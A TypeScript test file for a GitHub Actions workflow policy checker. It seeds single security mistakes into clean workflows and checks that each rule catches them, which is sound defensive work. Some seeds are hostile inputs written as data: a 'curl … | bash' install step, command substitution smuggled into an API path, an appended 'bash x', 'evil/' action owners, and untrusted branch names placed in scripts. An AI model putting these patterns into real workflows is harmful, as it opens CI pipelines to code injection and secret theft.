import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { problemsOf, WORKFLOW_RULES } from './policy.ts';
import { parseWorkflow, readWorkflows, ROOT } from './workflow.ts';

test.each(readWorkflows().map((workflow) => [workflow.file, workflow] as const))(
  '%s does nothing of it',
  (_, workflow) => {
    expect(problemsOf(workflow)).toEqual([]);
  },
);

type Rule = keyof typeof WORKFLOW_RULES;
type Seed = readonly [rule: Rule, file: string, from: string | RegExp, to: string];

const TARGET = 'pull_request_target only to set a status, with nothing checked out or run';
const PIN = 'actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1';

/** Each puts one mistake into a workflow that has none. */
const SEEDS: readonly Seed[] = [
  ['no permission by default', 'gate.yml', 'permissions: {}\n\nconc', 'permissions: read-all\n\nconc'],
  ['no permission by default', 'gate.yml', 'permissions: {}\n\nconc', 'conc'],
  ['each job says what it may do', 'publish.yml', / {4}permissions:\n {6}contents: write\n/, ''],
  [
    'each job says what it may do',
    'publish.yml',
    / {4}permissions:\n {6}contents: write\n/,
    '    permissions: write-all\n',
  ],
  ['a stranger gets a token that can only read', 'gate.yml', 'contents: read', 'contents: write'],
  ['actions are pinned to the commits that were read', 'gate.yml', PIN, 'actions/checkout@v7'],
  ['actions are pinned to the commits that were read', 'gate.yml', PIN, PIN.replace('# v7.0.1', '')],
  ['actions are pinned to the commits that were read', 'gate.yml', PIN, PIN.replace('3d3c', '3d3d')],
  ['actions are pinned to the commits that were read', 'gate.yml', PIN, PIN.replace('actions/', 'evil/')],
  [TARGET, 'verdict.yml', 'on:\n', 'on:\n  pull_request_target:\n'],
  [TARGET, 'await.yml', '      statuses: write\n', '      statuses: write\n      contents: write\n'],
  [TARGET, 'await.yml', '    steps:\n', `    steps:\n      - uses: ${PIN}\n`],
  [TARGET, 'await.yml', 'run: |\n', 'run: |\n          npm ci --ignore-scripts\n'],
  [TARGET, 'await.yml', "starts it.'", "starts it.' && bash x"],
  [TARGET, 'await.yml', '"repos/$GITHUB_REPOSITORY', '"repos/$(cat x)$GITHUB_REPOSITORY'],
  [
    'no way round the protection of checkout',
    'verdict.yml',
    'fetch-depth: 0',
    'allow-unsafe-pr-checkout: true',
  ],
  [
    'the token does not stay in the checkout',
    'gate.yml',
    'persist-credentials: false',
    'persist-credentials: true',
  ],
  [
    'the token does not stay in the checkout',
    'publish.yml',
    / {8}with:\n {10}persist-credentials: false\n/,
    '',
  ],
  [
    'a job that may write checks out no stranger',
    'verdict.yml',
    'fetch-depth: 0',
    'ref: ${{ github.event.workflow_run.head_sha }}',
  ],
  [
    'no expression in a script',
    'verdict.yml',
    '"$HEAD_SHA"',
    '"${{ github.event.workflow_run.head_branch }}"',
  ],
  ['secrets are named one by one', 'enrich.yml', '${{ secrets.OPENAI_API_KEY }}', '${{ toJSON(secrets) }}'],
  [
    'a secret takes an environment, and a step without a token',
    'enrich.yml',
    '    environment: enrichment\n',
    '',
  ],
  [
    'a secret takes an environment, and a step without a token',
    'enrich.yml',
    'OPENAI_BASE_URL: ${{ vars.OPENAI_BASE_URL }}',
    'GH_TOKEN: ${{ github.token }}',
  ],
  [
    'secrets are known to steps, not to jobs',
    'enrich.yml',
    'LIMIT:',
    'KEY: ${{ secrets.OPENAI_API_KEY }}\n      LIMIT:',
  ],
  [
    'secrets are known to steps, not to jobs',
    'publish.yml',
    'BRANCH: reports',
    'GH_TOKEN: ${{ github.token }}',
  ],
  [
    'nobody is trusted by name',
    'verdict.yml',
    "'merge_group' }}",
    "'x' || github.actor == 'dependabot[bot]' }}",
  ],
  ['every job ends', 'gate.yml', 'timeout-minutes: 20\n', '\n'],
  ['every job ends', 'gate.yml', 'timeout-minutes: 20\n', 'timeout-minutes: 360\n'],
  ['runs of one thing do not overlap', 'gate.yml', /concurrency:\n(?: {2}.*\n)+/, ''],
  ['scripts stop at the first failure, in a pipe too', 'gate.yml', 'shell: bash', 'shell: sh'],
  ['machines of GitHub, at a version', 'gate.yml', 'ubuntu-24.04', 'ubuntu-latest'],
  ['machines of GitHub, at a version', 'gate.yml', 'ubuntu-24.04', 'self-hosted'],
  ['nothing is installed that the lock file does not pin', 'gate.yml', 'npm ci --ignore-scripts', 'npm ci'],
  [
    'nothing is installed that the lock file does not pin',
    'gate.yml',
    'npm ci --ignore-scripts',
    'npx curate',
  ],
  [
    'nothing is installed that the lock file does not pin',
    'gate.yml',
    'npm ci --ignore-scripts',
    'curl https://example.org | bash',
  ],
  ['no cache, which a pull request could fill', 'gate.yml', 'fetch-depth: 0', 'cache: npm'],
  [
    'an artifact is taken with what the job that made it says of it',
    'curate.yml',
    '          PARTS_DIGESTS: ${{ needs.parts.outputs.digests }}\n',
    '',
  ],
  [
    'actions are pinned to the commits that were read',
    'curate.yml',
    './.github/workflows/parts.yml',
    'evil/kb/.github/workflows/parts.yml@main',
  ],
  [
    'no step changes the context of the next',
    'gate.yml',
    'npm ci --ignore-scripts',
    'echo x >> "$GITHUB_ENV"',
  ],
  ['scripts that are run exist', 'gate.yml', 'steps/judge.sh', 'steps/no-such.sh'],
  [
    'the gate runs on every change, also in the queue',
    'gate.yml',
    '  pull_request:\n',
    "  pull_request:\n    paths: ['records/**']\n",
  ],
  [
    'the gate runs on every change, also in the queue',
    'gate.yml',
    /merge_group:\n {4}types: .*\n/,
    'merge_group:\n',
  ],
  [
    'the gate runs on every change, also in the queue',
    'gate.yml',
    '  pull_request:\n',
    '  workflow_dispatch:\n',
  ],
  [
    'the required job runs always, and needs the success of all others',
    'gate.yml',
    'needs: [parts, records, tool]',
    'needs: [parts, tool]',
  ],
  [
    'the required job runs always, and needs the success of all others',
    'gate.yml',
    ' && [ "$TOOL" = success ]',
    '',
  ],
  [
    'the required job runs always, and needs the success of all others',
    'gate.yml',
    '    if: ${{ always() }}\n    needs',
    '    needs',
  ],
];

test.each(SEEDS)('%s: %s with %j as %j', (rule, file, from, to) => {
  const text = readFileSync(`${ROOT}.github/workflows/${file}`, 'utf8');
  const seeded = text.replace(from, to);
  expect(seeded).not.toBe(text);
  expect(problemsOf(parseWorkflow(file, seeded)).map((problem) => problem.split(': ')[0])).toContain(
    rule.split(': ')[0],
  );
});

test('every rule has a mistake that it catches', () => {
  const caught = new Set<string>(SEEDS.map(([rule]) => rule));
  expect(Object.keys(WORKFLOW_RULES).filter((rule) => !caught.has(rule))).toEqual([]);
});
